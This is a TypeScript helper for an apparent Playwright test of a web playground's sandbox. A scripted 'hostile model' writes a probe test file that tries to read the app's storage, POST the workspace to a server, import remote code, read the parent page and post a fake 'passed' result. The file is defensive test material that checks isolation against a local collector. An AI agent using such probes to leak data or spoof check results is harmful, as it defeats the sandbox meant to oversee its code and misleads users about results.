/**
 * For playground-sandbox.e2e.ts: the test file a hostile model writes (each test tries to reach past the check and
 * passes only if it got through, logging what it reached), the scripted model's script that writes it and runs the
 * check, a local server that counts what reaches it, and the control — the runner as it was before the sandbox:
 * a worker of the app's own origin whose first message the page took as the result. The control is test code
 * only: the product has no same-origin runner to choose.
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { runTests, type CheckResult } from '../../src/ui/playground/agent/test-runner';
import type { Msg, Reply } from './scripted-model-script';

export const probePath = 'test/probe.test.js';

/** What the spoofing test posts: a check that passed. */
export const fakeResult: CheckResult = {
  output: 'ok 1 - all good\n# tests 1\n# pass 1\n# fail 0',
  exitCode: 0,
};

/** The probes, in the order the runner reports them (1 … 7). */
export const probeNames = [
  "self.origin: the app's",
  'OPFS: lists the private file system',
  'IndexedDB: opens a database',
  'fetch: posts the workspace to a server',
  'import(): loads code from a server',
  'parent/top: reads the page',
  'postMessage: a fake "passed" result to the page',
] as const;

export function probeFile(server: string): string {
  const [origin, opfs, idb, fetchName, importName, page, spoof] = probeNames.map((n) => JSON.stringify(n));
  return `// Each test tries to reach past the check; it passes only if it got through.
const server = ${JSON.stringify(server)};

test(${origin}, () => {
  console.log('self.origin:', self.origin);
  assert.ok(self.origin !== 'null', 'self.origin is "null", an opaque origin');
});

test(${opfs}, async () => {
  const root = await navigator.storage.getDirectory();
  const names = [];
  for await (const name of root.keys()) names.push(name);
  console.log('OPFS:', names.sort().join(', '));
});

test(${idb}, async () => {
  const db = await new Promise((resolve, reject) => {
    const request = indexedDB.open('probe');
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });
  console.log('IndexedDB: opened', db.name);
  db.close();
});

test(${fetchName}, async () => {
  const response = await fetch(server + '/fetch', { method: 'POST', body: 'the workspace' });
  console.log('fetch: the server answered', response.status);
});

test(${importName}, async () => {
  await import(server + '/import.js');
  console.log('import(): loaded');
});

test(${page}, () => {
  const page = typeof parent !== 'undefined' ? parent : top;
  console.log('parent/top:', page.location.href, page.document.title);
});

test(${spoof}, () => {
  const fake = ${JSON.stringify(fakeResult)};
  if (typeof parent !== 'undefined') parent.postMessage(fake, '*');
  else self.postMessage(fake);
  console.log('postMessage: posted');
});
`;
}

/** The hostile model: writes the probes, runs the check, and stops. */
export function probeScript(file: string): (messages: Msg[]) => Reply {
  return (messages) => {
    const called = messages.flatMap((m) => m.tool_calls ?? []).map((c) => c.function.name);
    if (!called.includes('write_file'))
      return {
        content: 'A test of my own first.',
        calls: [{ name: 'write_file', args: { path: probePath, content: file } }],
      };
    if (!called.includes('run_check')) return { content: null, calls: [{ name: 'run_check', args: {} }] };
    return { content: 'Done.', calls: [] };
  };
}

/** A local server that records every request (CORS open, so a request that gets out also gets an answer). */
export async function startCollector() {
  const requests: string[] = [];
  const server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.setHeader('access-control-allow-origin', '*');
    res.writeHead(200, { 'content-type': 'text/javascript' }).end('export {};\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/**
 * The control: the same runner in a module worker of the page's own origin, as before the sandbox. The page took
 * the worker's first message as the result (`taken`); `real` is what the runner itself sent.
 */
export async function runSameOriginCheck(
  page: Page,
  files: Record<string, string>,
): Promise<{ taken: CheckResult; real: CheckResult }> {
  const source = `self.onmessage = async (event) => {
    self.postMessage(await (${runTests.toString()})(event.data.files));
    self.postMessage('finished');
  };`;
  return page.evaluate(
    ({ source, files }) =>
      new Promise<{ taken: CheckResult; real: CheckResult }>((resolve, reject) => {
        const url = URL.createObjectURL(new Blob([source], { type: 'text/javascript' }));
        const worker = new Worker(url, { type: 'module' });
        const messages: CheckResult[] = [];
        const timer = setTimeout(() => reject(new Error('the same-origin check did not finish')), 20_000);
        worker.onmessage = (event: MessageEvent<CheckResult | 'finished'>) => {
          if (event.data !== 'finished') return void messages.push(event.data);
          clearTimeout(timer);
          worker.terminate();
          resolve({ taken: messages[0]!, real: messages.at(-1)! });
        };
        worker.onerror = (event) => reject(new Error(event.message));
        worker.postMessage({ files });
      }),
    { source, files },
  );
}
